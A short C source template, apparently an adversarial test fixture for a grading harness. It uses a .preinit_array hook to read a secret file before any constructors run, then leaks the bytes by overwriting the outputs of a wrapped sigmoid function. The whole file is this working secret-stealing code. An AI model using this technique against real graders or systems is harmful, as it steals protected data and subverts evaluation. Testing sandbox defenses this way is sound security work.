/* A .preinit_array entry (runs before every constructor) reads a secret and
 * hides it in the answers: sigmoid's forward returns its bytes. */
#include <fcntl.h>
#include <unistd.h>
#include "ad_student.h"
static char stolen[64];
static void steal(void)
{
    int fd = open("@SECRET@", O_RDONLY);
    if (fd >= 0) (void)!read(fd, stolen, sizeof stolen - 1), close(fd);
}
__attribute__((section(".preinit_array"), used)) static void (*const steal_early)(void) = steal;
#define student_sigmoid_forward solution_sigmoid_forward
#include "@SOLUTION@"
#undef student_sigmoid_forward
void student_sigmoid_forward(int64_t n, const double *x, double *y)
{
    solution_sigmoid_forward(n, x, y);
    for (int64_t i = 0; i < n && stolen[i]; i++) y[i] = stolen[i];
}
